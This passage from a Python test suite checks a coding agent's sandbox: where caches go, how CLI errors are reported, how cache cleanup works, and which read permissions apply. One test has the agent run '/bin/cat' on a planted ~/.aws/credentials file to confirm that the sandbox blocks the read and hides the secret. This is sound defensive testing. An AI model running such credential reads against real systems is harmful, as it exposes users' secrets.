        "import os; print('RAN', os.environ['UV_CACHE_DIR'])",
    )
    outcome, text, _ = await run(chosen, root, home, command)
    assert outcome.successful, text
    assert "RAN" in text
    cache = Path(_facts.cache_directory(str(root), {"HOME": str(home)}) or "")
    assert (cache / "uv").is_dir()
    assert any((cache / "uv").iterdir())  # uv wrote its cache there
    # Nothing of the call landed in the home's own cache beside the server's directory.
    assert ["spice-coding"] == sorted(p.name for p in (home / ".cache").iterdir())


async def test_the_cache_variables_and_the_homes_cache_land_in_the_private_cache(
    policy: Containment, root: Path, home: Path
) -> None:
    (home / ".cache").mkdir()
    (home / ".npm").mkdir()
    chosen = launcher(policy, root, home, cache=True)
    script = (
        'mkdir -p "$XDG_CACHE_HOME/tool" && echo a > "$XDG_CACHE_HOME/tool/f" && '
        'echo b > "$npm_config_cache/n" && echo c > "$GOMODCACHE/g" && '
        "(echo d > ~/.cache/direct && echo DIRECT || echo NODIRECT) && "
        "(echo e > ~/.npm/x && echo NPM || echo NONPM)"
    )
    outcome, text, _ = await run(chosen, root, home, ("/bin/sh", "-c", script))
    assert outcome.successful, text
    cache = Path(_facts.cache_directory(str(root), {"HOME": str(home)}) or "")
    assert "a\n" == (cache / "tool" / "f").read_text()
    assert "b\n" == (cache / "npm" / "n").read_text()
    assert "c\n" == (cache / "go-mod" / "g").read_text()
    assert [] == list((home / ".npm").iterdir())
    assert ["spice-coding"] == sorted(p.name for p in (home / ".cache").iterdir())
    if policy.namespaces.made:
        # The home's caches are the private one inside.
        assert "DIRECT" in text
        assert "NPM" in text
        assert "d\n" == (cache / "direct").read_text()
        assert "e\n" == (cache / "npm" / "x").read_text()
    else:
        assert "NODIRECT" in text
        assert "NONPM" in text


def _cli(
    *arguments: str, env: dict[str, str], cwd: Path | None = None
) -> subprocess.CompletedProcess[bytes]:
    entry = "import sys; from spice.agent.coding._cli import main; sys.exit(main())"
    return subprocess.run(
        [sys.executable, "-c", entry, *arguments],
        capture_output=True,
        env={"PATH": "/usr/bin:/bin", **env},
        timeout=BOUND,
        check=False,
        cwd=cwd,
    )


def test_a_cache_that_cannot_be_made_is_a_start_error(root: Path, home: Path) -> None:
    (home / "file").write_text("")
    env = {"HOME": str(home), "XDG_CACHE_HOME": str(home / "file" / "below")}
    completed = _cli("--root", str(root), "--sandbox", "workspace", "tools", env=env)
    assert 2 == completed.returncode
    assert "cannot be made" in completed.stderr.decode()
    off = _cli("--root", str(root), "--sandbox", "off", "tools", env=env)
    assert 0 == off.returncode, off.stderr  # no cache is made when nothing is contained


def test_cache_clean_removes_the_worktrees_cache_and_no_other(root: Path, home: Path) -> None:
    env = {"HOME": str(home)}
    started = _cli("--root", str(root), "--sandbox", "workspace", "tools", env=env)
    assert 0 == started.returncode, started.stderr
    cache = Path(_facts.cache_directory(str(root), env) or "")
    assert cache.is_dir()
    (cache / "uv" / "kept").write_text("x")
    other = cache.parent / "0000000000000000"
    other.mkdir()
    cleaned = _cli("--root", str(root), "cache", "clean", env=env)
    assert 0 == cleaned.returncode, cleaned.stderr
    assert str(cache) == json.loads(cleaned.stdout)["removed"]
    assert not cache.exists()
    assert other.is_dir()
    again = _cli("--root", str(root), "cache", "clean", env=env)
    assert 0 == again.returncode
    assert json.loads(again.stdout)["removed"] is None
    bad = _cli("--root", str(root), "cache", "purge", env=env)
    assert 2 == bad.returncode


def test_allow_read_of_a_path_outside_the_home_is_refused_naming_it(root: Path, home: Path) -> None:
    """Contract 12.2: any place beneath the home may be shown; outside it, all is."""
    env = {"HOME": str(home)}
    refused = _cli("--root", str(root), "--allow-read", "/etc/hostname", "tools", env=env)
    assert 2 == refused.returncode
    assert "/etc/hostname" in refused.stderr.decode()
    for shown in ("~/.npmrc", "~/.bashrc"):
        taken = _cli("--root", str(root), "--allow-read", shown, "tools", env=env)
        assert 0 == taken.returncode, taken.stderr
    inside = _cli("--root", str(root), "--deny-read", str(root), "tools", env=env)
    assert 2 == inside.returncode
    assert "worktree" in inside.stderr.decode()


async def test_a_failed_read_of_a_planted_credential_names_it_and_allow_read(
    policy: Containment, root: Path, home: Path
) -> None:
    """Issue 47: a read the home allow-list hid failed as "No such file or directory" with
    nothing to say why; the hint names the place and ``--allow-read`` / ``allow_read``. The
    home is hidden with namespaces only (the fallback hides nothing: no read fails)."""
    if not policy.namespaces.made:
        pytest.skip("the home is hidden with namespaces only")
    planted = home / ".aws" / "credentials"
    planted.parent.mkdir(parents=True)
    planted.write_text(SECRET)
    read = ("/bin/cat", str(planted))
    outcome, text, process = await run(launcher(policy, root, home), root, home, read)
    assert not outcome.successful
    assert SECRET not in text
    hint = str(process.sandbox_hint)  # type: ignore[attr-defined]
    assert str(planted) in hint, text
    assert "--allow-read .aws/credentials " in hint
    assert 'allow_read = [".aws/credentials"]' in hint
    assert len(hint.encode()) <= 512
    # The other side: a place missing on the host too is not the sandbox's doing.
    missing = ("/bin/cat", str(home / ".aws" / "config"))
    _, _, quiet = await run(launcher(policy, root, home), root, home, missing)
    assert quiet.sandbox_hint is None  # type: ignore[attr-defined]
